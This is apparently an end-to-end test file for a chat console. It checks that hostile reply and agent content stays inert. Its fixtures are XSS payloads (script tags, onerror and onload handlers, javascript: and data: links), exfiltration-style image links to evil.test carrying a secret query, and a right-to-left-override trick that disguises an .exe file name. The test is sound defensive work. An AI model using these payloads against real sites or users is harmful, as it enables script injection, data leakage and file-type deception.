import type { AgentAdminDto } from '../../src/modules/agent/editing/agent-admin.dto';
import { AdminClient } from '../support/admin-client';
import { uniqueContent } from '../support/chat-client';
import { type ConsoleApp, startConsoleApp, violations } from '../support/console-app';
import { ConsoleChat } from '../support/console-chat';

const MARKUP = '<img src="https://evil.test/a.png" onerror="window.ran = 1"><script>window.ran = 1</script>';
const STYLE =
  '<b style="background:url(https://evil.test/e)">bold</b><style>*{background:url(https://evil.test/d)}</style>';
/** Reverses the direction of the text after it: a file name seems to have another extension. */
const TURNED = 'photo_\u202egnp.exe\u202c \u2066\u2067';

const HOSTILE = [
  MARKUP,
  STYLE,
  '![pixel](https://evil.test/b.png?q=secret) [click](javascript:window.ran=1) [click](java&#115;cript&colon;window.ran=1)',
  '[data](data:text/html,<script>window.ran=1</script>) <javascript:window.ran=1> [x]: https://evil.test/x',
  '![pixel][remote] [![nested](https://evil.test/f.png)](https://evil.test/g)\n\n[remote]: https://evil.test/h.png',
  '<iframe src="https://evil.test/c"></iframe><link rel="stylesheet" href="https://evil.test/i"><svg onload="window.ran=1">',
  '<form action="https://evil.test/j"><input autofocus onfocus="window.ran=1"></form><meta http-equiv="refresh" content="0;url=https://evil.test/k">',
  `| ${MARKUP} | ${TURNED} |\n| --- | --- |\n| [a](vbscript:x) | <video src=https://evil.test/l autoplay> |`,
  `\`${TURNED}\` [${TURNED}](https://example.com/ok)`,
  `\`\`\`${MARKUP.replaceAll('`', '')}\n${TURNED}\n\`\`\``,
  '>'.repeat(10_000),
  'Still here.',
].join('\n\n');

/** Displayed texts that contain direction overrides, unless an element isolates them. */
const TURNING_TEXTS = `
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    const isApart = parentElement.closest('bdi, .visually-hidden, [dir=auto]:not(.markdown *)');
    if (!isApart && /[\u202a-\u202e\u2066-\u2069]/.test(data)) found.push(data);
  }
  found;
`;

describe('the chat of the console under difficult conditions', () => {
  let app: ConsoleApp;
  let chat: ConsoleChat;

  beforeAll(async () => {
    app = await startConsoleApp();
    chat = await ConsoleChat.visit(app, {}, { theme: 'dark' });
  });

  afterAll(() => app.close());

  it('continues a reply after a reload in its middle, and shows it in another window', async () => {
    const content = uniqueContent();
    await app.model.script({ key: content, steps: [{ text: 'Half' }, { hold: content }, { text: ' and half' }] });
    const id = await chat.openNew();
    await chat.send(content);
    await chat.replies.getByText('Half', { exact: true }).waitFor();
    await chat.page.reload();
    await chat.replies.getByText('Half', { exact: true }).waitFor();
    const other = await chat.another();
    await other.open(`${app.origin}/console/chat/${id}`);
    await other.replies.getByText('Half', { exact: true }).waitFor();
    await app.model.release(content);
    await chat.waitForEnd();
    await other.waitForEnd();
    await chat.expectLine(id, content, 'Half and half');
    await other.expectLine(id, content, 'Half and half');
    await other.page.close();
  });

  it('runs no code from a reply or from names, contacts no third party, and reverses no text', async () => {
    const strangers: string[] = [];
    chat.page.context().on('request', (request) => {
      if (!request.url().startsWith(app.origin)) strangers.push(request.url());
    });
    const admin = await AdminClient.of(app);
    const name = `<b>${uniqueContent(TURNED)}`.slice(0, 60);
    const { data: agent } = (
      await admin.post<AgentAdminDto>('/agents', {
        name,
        status: 'active',
        description: MARKUP,
        opening_message: `${MARKUP} ${STYLE}`,
        suggested_questions: [MARKUP, TURNED],
      })
    ).body;
    await chat.open();
    // The service removes direction overrides from names.
    await chat.page.locator('.agent', { hasText: agent.name }).click();
    await chat.page.locator('.opening', { hasText: MARKUP }).waitFor();
    const { id } = await chat.client.createChat({ agent_id: agent.id, title: `${MARKUP}${TURNED}` });
    await chat.client.request(`/chat/${id}`, { method: 'PUT', body: { tags: [MARKUP.slice(0, 30), TURNED] } });
    await chat.open(`chat/${id}`);
    const content = uniqueContent(`${MARKUP} ${TURNED}`);
    await app.model.script({ key: content, steps: [{ reasoning: HOSTILE }, { text: HOSTILE }] });
    await chat.send(content);
    await chat.waitForEnd();
    await chat.replies.getByText('Still here.').last().waitFor();
    await chat.page.locator('details.reasoning summary').click();
    await chat.page.reload();
    await chat.replies.getByText('Still here.').last().waitFor();
    expect(await chat.page.evaluate('window.ran')).toBeUndefined();
    expect(strangers).toEqual([]);
    const made = chat.page.locator(
      'main :is(iframe, script, style, link, meta, form:not(.composer), video), main .markdown :is(img, svg:not(.icon), input)',
    );
    expect(await made.count()).toBe(0);
    const protocols = `[...document.querySelectorAll('.reply a')].map(({ protocol }) => protocol)`;
    expect(new Set(await chat.page.evaluate<string[]>(protocols))).toEqual(new Set(['https:']));
    expect(await chat.page.evaluate(TURNING_TEXTS)).toEqual([]);
    expect(await violations(chat.page)).toEqual([]);
  });
});
